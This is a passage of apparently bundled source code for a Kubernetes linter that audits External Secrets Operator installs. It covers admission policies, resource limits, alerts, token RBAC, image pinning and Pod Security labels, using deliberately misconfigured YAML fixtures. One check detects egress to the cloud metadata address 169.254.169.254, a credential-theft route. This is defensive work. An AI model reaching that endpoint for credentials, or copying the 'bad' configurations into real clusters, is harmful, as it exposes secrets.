var IDENTITY2 = "Does a store that is not in this set sign in with the identity of the operator's pod or node?";
var ADDRESS = "169.254.169.254";
var METADATA = { kind: "address", within: AddressSet.of(ADDRESS) };
var HTTP = { protocol: "TCP", port: 80 };
var opensMetadata = (rule2, component, world) => takesPort(rule2.ports, HTTP) === "yes" && rule2.peers.takes(METADATA) === "yes" && world.network.allows(component.pod, "egress", METADATA, HTTP) === "yes" && !isEveryPort(openToInternet(rule2, component, "egress", world));

// src/rules/missing-admission-policy.ts
var missing_admission_policy_default = defineRule({
  id: "missing-admission-policy",
  title: "No admission policy restricts what stores, ExternalSecrets and PushSecrets may ask for",
  severities: ["medium"],
  kinds: [],
  needs: ["install"],
  why: "RBAC says who may write these objects, not what may stand in them. Whoever may write a store can name any provider and server, whoever may write an ExternalSecret or PushSecret can fetch or send Secrets from any namespace they write in, fill a Secret by a template of their own, and merge into Secrets that belong to others.",
  remedy: "Add policies for Kyverno, Gatekeeper or Kubernetes’ own ValidatingAdmissionPolicy that allow only the `spec.provider` names you use, only the namespaces that need ExternalSecrets and PushSecrets, only harmless `spec.target.template` content, and `creationPolicy: Owner` in sensitive namespaces. Where another team owns the cluster’s policies, ask it, or keep them in the set that is checked.",
  references: [
    "https://kubernetes.io/docs/reference/access-authn-authz/validating-admission-policy/",
    "https://external-secrets.io/latest/guides/security-best-practices/",
    "https://external-secrets.io/latest/guides/threat-model/"
  ],
  guide: ["AC1", "AC2", "AC3", "AC4", "TM3", "TM4", "PS1", "TM5"],
  bad: [
    `
# finding: no admission policy in the set restricts which namespaces may hold PushSecrets
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: kyverno.io/v1
kind: ClusterPolicy
metadata: { name: external-secrets }
spec:
  rules:
    - name: providers
      match: { any: [{ resources: { kinds: [SecretStore, ClusterSecretStore] } }] }
      validate:
        failureAction: Enforce
        pattern: { spec: { provider: { vault: { server: "https://vault.example.com" } } } }
    - name: targets
      match: { any: [{ resources: { kinds: [external-secrets.io/v1/ExternalSecret] } }] }
      validate:
        failureAction: Enforce
        deny:
          conditions:
            any:
              - { key: "{{ request.namespace }}", operator: AnyNotIn, value: [shop] }
              - { key: "{{ request.object.spec.target.creationPolicy }}", operator: Equals, value: Merge }
              - { key: "{{ request.object.spec.target.template.type }}", operator: Equals, value: bootstrap.kubernetes.io/token }
`,
    `
# finding: no admission policy in the set restricts the creationPolicy of ExternalSecrets
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicy
metadata: { name: creation-policy } # named for it, and reads something else
spec:
  matchConstraints:
    resourceRules:
      - { apiGroups: [external-secrets.io], apiVersions: ["*"], operations: [CREATE, UPDATE], resources: ["*"] }
  validations:
    - expression: "object.metadata.namespace in ['shop']"
      message: no creationPolicy but Owner
    - expression: "!has(object.spec.target.template)"
    - expression: "!has(object.spec.provider) || has(object.spec.provider.vault)"
`
  ],
  good: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
# Which fields the template of this constraint reads stands elsewhere: it may be all of them.
apiVersion: constraints.gatekeeper.sh/v1beta1
kind: ExternalSecretsGuard
metadata: { name: guard }
spec:
  match:
    kinds:
      - { apiGroups: [external-secrets.io], kinds: ["*"] }
`,
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
# Nobody but the operators writes any of it.
apiVersion: kyverno.io/v1
kind: ClusterPolicy
metadata: { name: operators-only }
spec:
  validationFailureAction: Enforce
  rules:
    - name: operators-only
      match: { any: [{ resources: { kinds: ["*SecretStore", "*ExternalSecret", "*PushSecret"] } }] }
      exclude: { any: [{ subjects: [{ kind: Group, name: platform }] }] }
      validate: { message: only operators, deny: {} }
`
  ],
  *checkInstall(install, { admission, eso }) {
    if (install !== eso.installs.find(({ controller }) => controller)) return;
    for (const demand of DEMANDS) {
      const unmet = admission.unmet(demand);
      if (unmet.length > 0)
        yield {
          object: null,
          path: [],
          discriminator: demand.id,
          message: `no admission policy in the set restricts ${restricted(demand, unmet)}`
        };
    }
  },
  fix: () => unsafe(REFUSED2, generated("admission"))
});
var REFUSED2 = "Do all stores, ExternalSecrets and PushSecrets of the cluster keep to what the config allows? Others are refused when they are written.";

// src/model/pods/limits.ts
var isUnlimited2 = (pod, container, world) => !hasLimit(pod.manifest.get(...container.path, "resources")) && !hasLimit(pod.spec.resources) && !world.of("core/LimitRange").some((range) => inSameNamespace(range, pod.manifest) && givesDefault(range));
var hasLimit = (resources) => {
  const limits = valueAt(resources, ["limits"]);
  return isPlaceholder(resources) || isPlaceholder(limits) || LIMITED.some((name) => asMapping(limits)?.[name] != null);
};
var LIMITED = ["cpu", "memory"];
var givesDefault = (range) => asList(range.get("spec", "limits")).some(
  (item) => valueAt(item, ["type"]) === "Container" && ["default", "max"].some((field) => Object.keys(asMapping(valueAt(item, [field])) ?? {}).length > 0)
);

// src/rules/missing-resource-limits.ts
var missing_resource_limits_default = defineRule({
  id: "missing-resource-limits",
  title: "A container of the operator may take all memory and processor time of its node",
  severities: ["low"],
  kinds: WORKLOAD_KINDS,
  why: "Whoever may write ExternalSecrets can make the operator work hard, with large templates or thousands of keys. Without a limit it takes what the other pods of its node need; and without requests of its own it is the first to be removed, so that Secrets are no longer refreshed.",
  remedy: "Set `resources`, `webhook.resources` and `certController.resources` in the operator chart (its default is none), at least a memory limit; or give the namespace a LimitRange with a default.",
  references: [
    "https://kubernetes.io/docs/concepts/configuration/manage-resources-containers/",
    "https://kubernetes.io/docs/concepts/policy/limit-range/"
  ],
  guide: ["TM1"],
  bad: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          resources: # finding: container controller of the controller has no limit for memory or processor time
            requests: { memory: 64Mi }
---
# Its default is for the Secrets of another namespace's pods.
apiVersion: v1
kind: LimitRange
metadata: { name: defaults, namespace: shop }
spec:
  limits:
    - { type: Container, default: { memory: 128Mi } }
`,
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-webhook, namespace: eso }
spec:
  template:
    spec:
      containers:
        - name: webhook # finding: container webhook of the webhook has no limit
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          args: [webhook]
---
# A default for what is asked for is none for what may be taken.
apiVersion: v1
kind: LimitRange
metadata: { name: defaults, namespace: eso }
spec:
  limits:
    - { type: Container, defaultRequest: { memory: 128Mi } }
    - { type: PersistentVolumeClaim, max: { storage: 1Gi } }
`
  ],
  good: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          resources: { limits: { memory: 256Mi } }
        - name: proxy
          image: registry.example.com/proxy:v1
          resources: "\${PROXY_RESOURCES}"
---
# Other workloads are not this tool's business.
apiVersion: apps/v1
kind: Deployment
metadata: { name: shop, namespace: shop }
spec:
  template:
    spec:
      containers:
        - { name: shop, image: "registry.example.com/shop:v1" }
`,
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: v1
kind: LimitRange
metadata: { name: defaults, namespace: eso }
spec:
  limits:
    - { type: Container, max: { memory: 512Mi } }
`
  ],
  *check(manifest, world) {
    const component = world.eso.componentOf(manifest);
    if (!component) return;
    const { pod, role } = component;
    for (const container of pod.containers)
      if (isUnlimited2(pod, container, world))
        yield {
          path: [...container.path, "resources", "limits"],
          message: `container ${container.name} of the ${role} has no limit for memory or processor time`
        };
  }
});

// src/rules/missing-sync-failure-alert.ts
var missing_sync_failure_alert_default = defineRule({
  id: "missing-sync-failure-alert",
  title: "No alert tells of failed syncs or stores that are not ready",
  severities: ["low"],
  kinds: [],
  needs: ["install", "policies"],
  why: "When a sync fails the Secret keeps its old content: applications go on with a credential that was rotated or withdrawn, and nobody notices before it stops working. Many failures at once are also what somebody leaves behind who tries out what a store can read.",
  remedy: 'Add alerts on `externalsecret_sync_calls_error` and on `externalsecret_status_condition`, `secretstore_status_condition`, `clustersecretstore_status_condition` and `pushsecret_status_condition` with `condition="Ready"` and `status="False"`, or ask whoever keeps the alerts of the cluster.',
  references: [
    "https://external-secrets.io/latest/api/metrics/",
    "https://prometheus.io/docs/prometheus/latest/configuration/alerting_rules/"
  ],
  guide: ["AO1", "AO2"],
  bad: [
    `
# finding: no alert in the set looks at failed syncs of External Secrets Operator or at stores that are not ready
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: monitoring.coreos.com/v1
kind: PrometheusRule
metadata: { name: nodes, namespace: monitoring }
spec:
  groups:
    - name: nodes
      rules:
        - { alert: NodeDown, expr: 'up{job="node"} == 0' }
        - { record: "externalsecret:errors:rate5m", expr: "rate(externalsecret_sync_calls_error[5m])" }
`
  ],
  good: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: monitoring.coreos.com/v1
kind: PrometheusRule
metadata: { name: external-secrets, namespace: monitoring }
spec:
  groups:
    - name: external-secrets
      rules:
        - { alert: ExternalSecretNotReady, expr: 'externalsecret_status_condition{condition="Ready",status="False"} == 1', for: 15m }
`
  ],
  *checkInstall(install, world) {
    if (install !== world.eso.installs.find(({ controller }) => controller) || syncAlerts(world).length > 0) return;
    yield {
      object: null,
      path: [],
      message: "no alert in the set looks at failed syncs of External Secrets Operator or at stores that are not ready"
    };
  },
  fix: () => unsafe(PROMETHEUS, generated("alerts"))
});
var PROMETHEUS = "Does the Prometheus Operator run in this cluster, and read rules from the namespace of the operator?";

// src/check/overlap.ts
var shareCluster = (a, b, world) => world.has("complete") || (a.release || b.release ? a.release?.name === b.release?.name : a.file === b.file);
function reachOf2(controller) {
  const flags = flagsOf(controller);
  const namespace = flags.get("namespace")?.value || void 0;
  const controllerClass = flags.get("controller-class")?.value ?? "default";
  if ([namespace, controllerClass].some((value) => isPlaceholder(value) || value?.includes("$("))) return void 0;
  const id = flags.get("leader-election-id")?.value ?? "external-secrets-controller";
  const lease = isOn(flags, "enable-leader-election", false) ? `${controller.pod.namespace ?? ""}/${id}` : void 0;
  return { namespace, controllerClass, lease };
}
function overlap(a, b) {
  if (a.lease !== void 0 && a.lease === b.lease) return false;
  const isSameNamespace = a.namespace === void 0 || b.namespace === void 0 || a.namespace === b.namespace;
  return isSameNamespace && a.controllerClass === b.controllerClass;
}

// src/check/token-rights.ts
var TOKENS = { group: "", resource: "serviceaccounts/token", verbs: ["create"] };
function controllersFor(store, namespace, world) {
  const { controllers } = world.eso;
  const reaches = controllers.map(reachOf2);
  if (reaches.includes(void 0)) return void 0;
  const wanted = asText(store.get("spec", "controller")) ?? "";
  return controllers.filter((_, i) => {
    const reach = reaches[i];
    if (!reach) return false;
    const watches = reach.namespace === void 0 || reach.namespace === namespace;
    return watches && (wanted === "" || wanted === reach.controllerClass);
  });
}
function mayMakeToken(controller, name, namespace, { rbac }) {
  const account = accountOf(controller.pod);
  const held = [account, ...implicitGroups(account)].flatMap((holder) => rbac.grantsTo(holder)).filter((grant) => grant.namespace === void 0 || grant.namespace === namespace).map(({ binding }) => binding);
  const may = held.flatMap((binding) => rightsBy(binding, rbac)).some(
    ({ rule: rule2 }) => verbsGiven(rule2, TOKENS).length > 0 && (rule2.resourceNames.length === 0 || rule2.resourceNames.includes(name))
  );
  if (may) return true;
  const isElsewhere2 = (binding) => rbac.boundRoles(binding).length === 0 && builtInRoleOf(binding, rbac) === void 0 && // What Kubernetes gives its own parts has no right to make tokens that a controller would be bound to.
  !asText(binding.get("roleRef", "name"))?.startsWith("system:");
  return rbac.rolesOf(account).length === 0 || held.some(isElsewhere2) ? void 0 : false;
}

// src/rules/missing-token-permission.ts
var missing_token_permission_default = defineRule({
  id: "missing-token-permission",
  title: "The operator may not make the token that a store signs in with",
  severities: ["medium"],
  kinds: STORE_KINDS,
  needs: ["install", "stores"],
  why: "The store cannot sign in, so that its secrets stop to arrive when the next one is due; and the quick way out is to let the operator make tokens for every ServiceAccount of the cluster again.",
  remedy: "Put a Role into the namespace of the ServiceAccount that allows `create` on `serviceaccounts/token` with its name under `resourceNames`, and bind it to the controller’s ServiceAccount. `rbac.serviceAccountTokenCreate: true` in the operator chart would give it all of them.",
  references: [
    "https://external-secrets.io/latest/guides/security-best-practices/",
    "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#token-request"
  ],
  guide: ["RM6"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth:
        kubernetes:
          mountPath: kubernetes
          role: shop
          serviceAccountRef:
            name: vault-client # finding: ServiceAccount eso/external-secrets of the operator may not make a token for ServiceAccount shop/vault-client
---
# Another namespace, and another name, are no help.
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: eso-token, namespace: shop }
rules:
  - { apiGroups: [""], resources: [serviceaccounts/token], verbs: [create], resourceNames: [other] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: eso-token, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: eso-token }
subjects:
  - { kind: ServiceAccount, name: external-secrets, namespace: eso }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: external-secrets
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`,
    `
# Without a namespace, each ExternalSecret brings a ServiceAccount of its own namespace.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: aws }
spec:
  provider:
    aws:
      service: SecretsManager
      region: eu-west-1
      auth:
        jwt:
          serviceAccountRef:
            name: reader # finding: may not make a token for ServiceAccount bar/reader
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: db, namespace: shop }
spec:
  secretStoreRef: { kind: ClusterSecretStore, name: aws }
  data: [{ secretKey: password, remoteRef: { key: db } }]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: db, namespace: bar }
spec:
  secretStoreRef: { kind: ClusterSecretStore, name: aws }
  data: [{ secretKey: password, remoteRef: { key: db } }]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: eso-token, namespace: shop }
rules:
  - { apiGroups: [""], resources: [serviceaccounts/token], verbs: [create], resourceNames: [reader] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: eso-token, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: eso-token }
subjects:
  - { kind: ServiceAccount, name: external-secrets, namespace: eso }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: external-secrets
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: vault-client } } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: later, namespace: shop }
spec:
  provider:
    kubernetes:
      auth: { serviceAccount: { name: "\${READER}" } }
---
# For another controller, which is not here.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: kubernetes, namespace: shop }
spec:
  controller: team-shop
  provider:
    kubernetes:
      auth: { serviceAccount: { name: reader } }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: eso-token, namespace: shop }
rules:
  - { apiGroups: [""], resources: [serviceaccounts/token], verbs: [create], resourceNames: [vault-client] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: eso-token, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: eso-token }
subjects:
  - { kind: ServiceAccount, name: external-secrets, namespace: eso }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: external-secrets
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`,
    `
# The operator's roles are elsewhere.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: bar }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth: { kubernetes: { mountPath: kubernetes, role: bar, serviceAccountRef: { name: vault-client } } }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: external-secrets
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`
  ],
  *check(store, world) {
    for (const { name, namespaces, path } of accountsOf(store, world)) {
      const missing2 = namespaces.filter((namespace) => isForbidden(store, name, namespace, world));
      const [first] = missing2;
      if (first === void 0) continue;
      const controllers = controllersFor(store, first, world) ?? [];
      const who = [...new Set(controllers.map((controller) => nameOfSubject(accountOf(controller.pod))))].join(", ");
      const accounts = missing2.map((namespace) => `${namespace}/${name}`).join(", ");
      yield {
        path: [...path, "name"],
        message: `${who} of the operator may not make a token for ServiceAccount ${accounts}, so that the store cannot sign in`
      };
    }
  },
  fix: () => unsafe(ROLES2, generated("rbac"))
});
var ROLES2 = "May the operator make tokens for the ServiceAccounts that stores name, and are the other roles of that file wanted?";
function isForbidden(store, name, namespace, world) {
  const controllers = controllersFor(store, namespace, world) ?? [];
  return controllers.length > 0 && controllers.every((controller) => mayMakeToken(controller, name, namespace, world) === false);
}

// src/rules/mutable-image.ts
var mutable_image_default = defineRule({
  id: "mutable-image",
  title: "An image of the operator, or of a pod in its namespace, can change under its name",
  severities: ["low", "high"],
  kinds: WORKLOAD_KINDS,
  why: "A tag can be moved to another image by whoever may push to the registry, and the next pod start runs it with the rights of the operator. `main` and `latest` are moved with every build.",
  remedy: "Name the image by digest. The operator chart has no field for it: put tag and digest into `image.tag`, `webhook.image.tag` and `certController.image.tag`, as in `v2.9.0@sha256:…`.",
  references: [
    "https://kubernetes.io/docs/concepts/containers/images/#image-names",
    "https://external-secrets.io/latest/guides/using-latest-image/",
    "https://external-secrets.io/latest/guides/security-best-practices/"
  ],
  guide: ["TM1"],
  bad: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      initContainers:
        - name: certificates
          image: registry.example.com:5000/tools/ca # finding[high]: container certificates runs registry.example.com:5000/tools/ca, which has neither tag nor digest
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0 # finding: container controller runs ghcr.io/external-secrets/external-secrets:v2.9.0, and its tag can be moved
        - name: proxy
          image: registry.example.com/proxy@sha256:0b6a027b5cf322f09f6706c754e086a232ec1ddba835c8a15c6cb74ef0d43c29
---
# Whatever else runs in the operator's namespace.
apiVersion: batch/v1
kind: CronJob
metadata: { name: report, namespace: eso }
spec:
  jobTemplate:
    spec:
      template:
        spec:
          containers:
            - name: report
              image: registry.example.com/report:latest # finding[high]: container report runs registry.example.com/report:latest, and its tag is moved with every build
`,
    `
# The operator itself counts in whatever namespace.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:main-ubi" } # finding[high]: its tag is moved with every build
`
  ],
  good: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      initContainers:
        - { name: proxy, image: "\${REGISTRY}/proxy:v1" }
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0@sha256:0b6a027b5cf322f09f6706c754e086a232ec1ddba835c8a15c6cb74ef0d43c29" }
---
# Another namespace is not this tool's business.
apiVersion: apps/v1
kind: Deployment
metadata: { name: shop, namespace: shop }
spec:
  template:
    spec:
      containers:
        - { name: shop, image: "registry.example.com/shop:latest" }
`
  ],
  *check(manifest, { eso }) {
    const pod = podOf(manifest);
    if (!pod || !(eso.componentOf(manifest) || eso.isOwnNamespace(pod.namespace))) return;
    for (const { image, name, path } of pod.containers) {
      if (image === void 0 || isPlaceholder(image)) continue;
      const { tag, digest } = parseImage(image);
      if (digest) continue;
      yield {
        path: [...path, "image"],
        message: `container ${name} runs ${image}, ${weaknessOf(tag)}`,
        ...(!tag || MOVING.test(tag)) && { severity: "high" }
      };
    }
  }
});
var MOVING = /^(?:latest|main)(?:-ubi(?:-boringssl)?)?$/;
function weaknessOf(tag) {
  if (!tag) return "which has neither tag nor digest";
  return MOVING.test(tag) ? "and its tag is moved with every build" : "and its tag can be moved to another image";
}

// src/model/pods/kube-version.ts
var KUBE_VERSION = /^v?1\.(\d{1,3})(?!\d)/;
var OLDEST = 22;
function minorOf(kubeVersion) {
  const minor = KUBE_VERSION.exec(kubeVersion ?? "")?.[1];
  return minor === void 0 ? Number.POSITIVE_INFINITY : Math.max(Number(minor), OLDEST);
}

// src/model/pods/enforced-profile.ts
var ENFORCE = "pod-security.kubernetes.io/enforce";
var ENFORCE_VERSION = "pod-security.kubernetes.io/enforce-version";
var PROFILES = ["privileged", "baseline", "restricted"];
var PIN = /^v1\.(\d|[1-9]\d{1,3})$/;
function pinnedMinor(namespace) {
  const enforced = namespace.get("metadata", "labels", ENFORCE);
  if (enforced !== "baseline" && enforced !== "restricted") return void 0;
  const pin = namespace.get("metadata", "labels", ENFORCE_VERSION);
  const minor = typeof pin === "string" ? PIN.exec(pin)?.[1] : void 0;
  return minor === void 0 ? void 0 : Number(minor);
}
var ADDED = [
  { since: 8, demand: "no privilege escalation" },
  { since: 19, demand: "a seccomp profile" },
  { since: 22, demand: "dropped capabilities" },
  { since: 23, demand: "a user that is not root" },
  { since: 34, demand: "probes that name no host" }
];
var EVERYWHERE = 23;
function demandsAfter(pinned, kubeVersion) {
  const known = kubeVersion === void 0 ? EVERYWHERE : minorOf(kubeVersion);
  return ADDED.filter(({ since }) => since > pinned && since <= known).map(({ demand }) => demand);
}
function standardsVersionOf(manifest, world) {
  const version = world.kubeVersionOf(manifest);
  const pinned = pins(world).get(manifest.namespace ?? "");
  return pinned === void 0 || pinned > minorOf(version) ? version : `v1.${pinned}`;
}
var pins = remember(
  (world) => new Map(
    world.of("core/Namespace").flatMap((namespace) => {
      const minor = pinnedMinor(namespace);
      return minor === void 0 ? [] : [[namespace.name, minor]];
    })
  )
);

// src/rules/namespace-without-pod-security.ts
var namespace_without_pod_security_default = defineRule({
  id: "namespace-without-pod-security",
  title: "The namespace of the operator does not enforce the Pod Security profile `restricted`",
  severities: ["medium", "low"],
  kinds: ["core/Namespace"],
  why: "Without an enforced profile whoever may create a pod in the operator’s namespace can create a privileged one there, take over the node and with it the operator’s token and the Secrets it holds. The operator’s own pods meet `restricted` as the chart renders them.",
  remedy: "Label the Namespace `pod-security.kubernetes.io/enforce: restricted`, and set `enforce-version` to that of the cluster or leave it out. helm’s `--create-namespace` sets no labels: declare the Namespace yourself, or let Argo CD (`managedNamespaceMetadata`) or whoever owns the namespaces of the cluster set the label.",
  references: [
    "https://kubernetes.io/docs/tasks/configure-pod-container/enforce-standards-namespace-labels/",
    "https://kubernetes.io/docs/concepts/security/pod-security-admission/",
    "https://external-secrets.io/latest/guides/security-best-practices/"
  ],
  guide: ["TM1"],
  bad: [
    `
apiVersion: v1
kind: Namespace
metadata: # finding: namespace eso holds External Secrets Operator and enforces no Pod Security profile
  name: eso
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`,
    `
# Warnings and audit annotations keep nothing out.
apiVersion: v1
kind: Namespace
metadata:
  name: eso
  labels:
    pod-security.kubernetes.io/warn: restricted
    pod-security.kubernetes.io/enforce: baseline # finding: namespace eso holds External Secrets Operator and enforces only the Pod Security profile baseline
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`,
    `
apiVersion: v1
kind: Namespace
metadata:
  name: eso
  labels:
    pod-security.kubernetes.io/enforce: restricted
    pod-security.kubernetes.io/enforce-version: v1.22 # finding[low]: restricted of Kubernetes 1.22, which does not ask for a user that is not root
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`,
    `
# Pinned to standards of old.
apiVersion: v1
kind: Namespace
metadata:
  name: eso
  labels:
    pod-security.kubernetes.io/enforce: restricted
    pod-security.kubernetes.io/enforce-version: v1.20 # finding[medium]: enforces the profile restricted of Kubernetes 1.20, which does not ask for dropped capabilities and a user that is not root
---
apiVersion: v1
kind: Namespace
metadata:
  name: eso-two
  labels:
    pod-security.kubernetes.io/enforce: Restricted # finding[medium]: is to enforce Restricted, which is no Pod Security profile: the API server refuses the Namespace
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso-two }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`
  ],
  good: [
    `
# A pin to a version that asks for all that clusters in use know.
apiVersion: v1
kind: Namespace
metadata:
  name: eso
  labels: { pod-security.kubernetes.io/enforce: restricted, pod-security.kubernetes.io/enforce-version: v1.29 }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`,
    `
apiVersion: v1
kind: Namespace
metadata:
  name: eso
  labels: { pod-security.kubernetes.io/enforce: restricted }
---
# Another namespace is not this tool's business.
apiVersion: v1
kind: Namespace
metadata: { name: shop }
---
apiVersion: v1
kind: Namespace
metadata:
  name: eso-two
  labels: { pod-security.kubernetes.io/enforce: "\${PROFILE}" }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso-two }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`
  ],
  *check(namespace, world) {
    if (!world.eso.isOwnNamespace(namespace.name)) return;
    const enforced = namespace.get("metadata", "labels", ENFORCE);
    if (enforced === "restricted") yield* oldStandards(namespace, world);
    else if (!isPlaceholder(enforced))
      yield {
        path: ["metadata", "labels", ENFORCE],
        message: `namespace ${namespace.name} holds External Secrets Operator and ${says(enforced)}`
      };
  },
  fix: ({ path }) => unsafe(OTHER_PODS, setting(path, path.at(-1) === ENFORCE ? "restricted" : "latest"))
});
var OTHER_PODS = "Do all pods of this namespace keep to the profile restricted? Others are refused when they start again.";
function says(enforced) {
  const profile = asText(enforced);
  if (!profile) return "enforces no Pod Security profile";
  if (PROFILES.includes(profile)) return `enforces only the Pod Security profile ${profile}`;
  return `is to enforce ${profile}, which is no Pod Security profile: the API server refuses the Namespace`;
}
function* oldStandards(namespace, world) {
  const pinned = pinnedMinor(namespace);
  const missing2 = pinned === void 0 ? [] : demandsAfter(pinned, world.kubeVersionOf(namespace));
  if (missing2.length > 0)
    yield {
      path: ["metadata", "labels", ENFORCE_VERSION],
      severity: missing2.length === 1 ? "low" : "medium",
      message: `namespace ${namespace.name} holds External Secrets Operator and enforces the profile restricted of Kubernetes 1.${pinned}, which does not ask for ${joined(missing2)}`
    };
}

// src/rules/namespace-write-access.ts
var namespace_write_access_default = defineRule({
  id: "namespace-write-access",
  title: "The labels of every namespace can be changed",
  severities: ["medium"],
  kinds: ["rbac.authorization.k8s.io/ClusterRole"],
  why: "Labels of a namespace decide which Pod Security level holds there and which ClusterSecretStores serve it. Whoever changes them can start privileged pods, or open a store to a namespace of their own.",
  remedy: "Set `processClusterExternalSecret: false` in the operator chart where no ClusterExternalSecret is used, which takes the rule out of its role. For others, take update and patch on namespaces out of the role; Kubernetes offers no finer right.",
  references: [
    "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#namespace-modification",
    "https://external-secrets.io/latest/guides/disable-cluster-features/"
  ],
  guide: ["RM6"],
  bad: [
    `
apiVersion: rbac.authorization.k8s.io/v1
